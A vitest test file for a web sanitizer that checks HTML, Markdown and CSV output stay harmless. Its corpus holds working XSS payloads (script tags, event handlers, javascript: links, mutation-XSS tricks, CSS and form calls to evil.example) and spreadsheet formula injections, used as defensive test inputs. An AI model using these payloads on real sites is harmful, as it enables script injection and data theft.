// @vitest-environment jsdom
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvLine, escapeCsvCell, renderMarkdown, sanitizeHtml, stripMarkdown, stripToText } from '.';

type ParsedElement = {
  tagName: string;
  attributes: Iterable<{ name: string; value: string }>;
  getAttribute(name: string): string | null;
  querySelectorAll(selector: string): ArrayLike<ParsedElement> & Iterable<ParsedElement>;
};

// The test environment has a browser parser; the types of the server have none.
declare const DOMParser: new () => {
  parseFromString(html: string, type: 'text/html'): { body: ParsedElement };
};

const XSS_CORPUS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" width="1" onload="alert(1)" height=\'1" onerror="alert(1)\'>',
  '<img src="https://evil.example/pixel.gif" width=\'1"><script>alert(1)</script>\'>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "https://evil.example/x.css"; input[value^=a]{background:url(https://evil.example/a)}</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/app/logout">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a href=\'https://ok.example/"onmouseover="alert(1)\'>x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)><button>x</button></form>',
  '<base href="https://evil.example/"><link rel=stylesheet href=x.css><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<video src=https://evil.example/x poster=https://evil.example/y><source onerror=alert(1)></video><audio src=https://evil.example/a>',
  '<body onload=alert(1)><details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>',
  '<div background="https://evil.example/x"><table background="https://evil.example/y"><tr><td background=x>1</td></tr></table></div>',
  '<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>',
  '<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]><?xml <script>alert(1)</script>?>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '"><script>alert(1)</script>',
  '<<script>script>alert(1)//<</script>/script>',
  '<code class="language-js x" id="a" onclick=alert(1)>x</code>',
  '[x](javascript:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](https://evil.example/pixel.gif)',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://evil.example/a"onerror="alert(1))',
  '[x](https://ok.example/"onmouseover="alert(1))',
  '<javascript:alert(1)>',
  '[ref]\n\n[ref]: javascript:alert(1)',
  '`<script>alert(1)</script>`',
  '```"><script>\n</code><script>alert(1)</script>\n```',
];

const ALLOWED_ATTRIBUTES = new Set([
  'href',
  'title',
  'rel',
  'target',
  'dir',
  'start',
  'colspan',
  'rowspan',
  'class',
  'src',
  'alt',
  'width',
  'height',
]);

/** A browser builds nothing from it that runs, submits, styles or (by default) loads. */
function expectHarmless(html: string, options: { images: boolean } = { images: false }): void {
  const document = new DOMParser().parseFromString(`<body>${html}</body>`, 'text/html');
  const active =
    'script,style,iframe,object,embed,form,input,button,link,meta,base,svg,math,video,audio,template';
  expect(document.body.querySelectorAll(active)).toHaveLength(0);
  if (!options.images) expect(document.body.querySelectorAll('img,[src],[background]')).toHaveLength(0);
  for (const element of document.body.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(ALLOWED_ATTRIBUTES).toContain(name);
      if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:|tel:)/i);
      if (name === 'src') expect(value).toMatch(/^https?:\/\//i);
    }
    if (element.tagName === 'A') expect(element.getAttribute('rel')).toBe('noopener noreferrer nofollow');
  }
}

describe('C1: sanitized HTML and Markdown do not run, submit or load anything', () => {
  test.each(XSS_CORPUS)('%s is harmless', (payload) => {
    expectHarmless(sanitizeHtml(payload));
    expectHarmless(renderMarkdown(payload));
    expectHarmless(sanitizeHtml(payload, { images: 'keep' }), { images: true });
    expectHarmless(renderMarkdown(payload, { images: 'keep' }), { images: true });
  });

  const fragment = fc.oneof(
    fc.constantFrom(...XSS_CORPUS),
    fc.constantFrom(
      '<b>',
      '</b>',
      '<p',
      '>',
      '"',
      "'",
      '<!--',
      '-->',
      '<a href="',
      '<img src=',
      '&lt;',
      '&#',
      '<style>',
      '<svg>',
      '</p>',
      '[',
      '](',
      '`',
      '**',
      '<br/>',
      '<table><td>',
    ),
    fc.string({ unit: 'binary', maxLength: 12 }),
  );
  const soup = fc.array(fragment, { maxLength: 8 }).map((parts) => parts.join(''));

  test('any combination of fragments is harmless', () => {
    fc.assert(
      fc.property(soup, (html) => {
        expectHarmless(sanitizeHtml(html));
        expectHarmless(renderMarkdown(html));
      }),
      { numRuns: 150 },
    );
  });

  test('sanitizing twice has the same result as sanitizing once', () => {
    fc.assert(
      fc.property(soup, fc.constantFrom('link' as const, 'keep' as const), (html, images) => {
        const once = sanitizeHtml(html, { images });
        expect(sanitizeHtml(once, { images })).toBe(once);
      }),
      { numRuns: 1500 },
    );
  });
});

describe('Markdown', () => {
  test.each([
    [
      '**bold** _soft_ ~~gone~~ `code`',
      '<p><strong>bold</strong> <em>soft</em> <del>gone</del> <code>code</code></p>',
    ],
    ['one\ntwo', '<p>one<br>two</p>'],
    ['<b>not html</b>', '<p>&lt;b&gt;not html&lt;/b&gt;</p>'],
    ['a < b & c', '<p>a &lt; b &amp; c</p>'],
    ['- a\n- b', '<ul><li>a</li><li>b</li></ul>'],
    ['3. c', '<ol start="3"><li>c</li></ol>'],
    ['```js\nx\n```', '<pre><code>x</code></pre>'],
    ['', ''],
    [
      'see https://a.example/?x=1&y=2.',
      '<p>see <a href="https://a.example/?x=1&amp;y=2" rel="noopener noreferrer nofollow" target="_blank">https://a.example/?x=1&amp;y=2</a>.</p>',
    ],
    [
      'write jane@a.example',
      '<p>write <a href="mailto:jane@a.example" rel="noopener noreferrer nofollow" target="_blank">jane@a.example</a></p>',
    ],
    [
      '![a cat](https://a.example/cat.png)',
      '<p><a href="https://a.example/cat.png" rel="noopener noreferrer nofollow" target="_blank">a cat</a></p>',
    ],
  ])('%j is rendered to HTML', (source, html) => {
    expect(renderMarkdown(source)).toBe(html);
  });

  test.each([
    ['cw_image_height=48px', ' height="48"'],
    ['v=2&cw_image_width=600px&cw_image_height=24px#top', ' width="600" height="24"'],
    ['cw_image_height=auto', ''],
    ['cw_image_height=0px', ''],
    ['cw_image_height=48', ''],
    ['cw_image_height=48px%22%20onload%3D%22alert(1)', ''],
    ['cw_image_height=99999px', ''],
  ])('RE4: a picture with ?%s has the size%s', (query, size) => {
    const address = `https://a.example/cat.png?${query}`;
    const html = renderMarkdown(`![a cat](${address})`, { images: 'keep' });
    expect(html).toBe(`<p><img src="${address.replaceAll('&', '&amp;')}" alt="a cat"${size}></p>`);
    expectHarmless(html, { images: true });
  });

  test('pictures of a trusted author are rendered as pictures', () => {
    expect(renderMarkdown('![a cat](https://a.example/cat.png "hi")', { images: 'keep' })).toBe(
      '<p><img src="https://a.example/cat.png" alt="a cat"></p>',
    );
  });

  test.each([
    '[',
    '![',
    '**',
    '`',
    '<',
    '> ',
    '- ',
    '[a](',
    '*a_',
    '|',
    'a@',
    'http://',
    '&#',
    '\\[',
    '~~',
    '![](',
  ])('C4: 150 000 characters of %j are rendered in time', (piece) => {
    const start = performance.now();
    renderMarkdown(piece.repeat(150_000 / piece.length));
    expect(performance.now() - start).toBeLessThan(5_000);
  });

  test('a text longer than the longest message is shown as it is', () => {
    expect(renderMarkdown(`**a**${'x'.repeat(150_000)}`)).toMatch(/^<p>\*\*a\*\*x+<\/p>$/);
  });
});

describe('plain text', () => {
  test.each([
    ['<p>one</p><p>two<br>three</p>', 'one\ntwo\nthree'],
    ['<ul><li>a</li><li>b</li></ul>', 'a\nb'],
    ['a &lt;b&gt; &amp;amp; &eacute;', 'a <b> &amp; é'],
    ['<script>x</script><style>y</style>z', 'z'],
    ['<a href="https://a.example" title="a>b">link</a>', 'link'],
    ['  a \n\n\n\n  b  ', 'a\n\nb'],
  ])('the plain text of %j is %j', (html, text) => expect(stripToText(html)).toBe(text));

  test('the plain text of Markdown has no markup', () => {
    expect(stripMarkdown('**Hi** [there](https://a.example) <b>\n\n> quote')).toBe('Hi there <b>\n\nquote');
  });
});

describe('C3: CSV cells', () => {
  test.each([
    ['plain', 'plain'],
    ['=HYPERLINK("http://evil")', '"\'=HYPERLINK(""http://evil"")"'],
    ['+1', "'+1"],
    ['+491701234567', '+491701234567'],
    ['+1+SUM(1,2)', `"'+1+SUM(1,2)"`],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', '"\'\tx"'],
    ['\r=1', '"\'\r=1"'],
    ['＝1', "'＝1"],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    [-5, '-5'],
    [true, 'true'],
    [null, ''],
    [undefined, ''],
    [new Date('2026-01-01T00:00:00Z'), '2026-01-01T00:00:00.000Z'],
  ])('the value %j becomes the CSV cell %j', (value, cell) => expect(escapeCsvCell(value)).toBe(cell));

  test('no text starts a formula or leaves its cell', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const cell = escapeCsvCell(text);
        const content = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
        expect(content).not.toMatch(/^[=+\-@\t\r]/);
        if (!cell.startsWith('"')) expect(cell).not.toMatch(/[",\r\n]/);
      }),
    );
  });

  test('a CSV row ends with CR LF', () => expect(csvLine(['a', 1, null])).toBe('a,1,\r\n'));
});
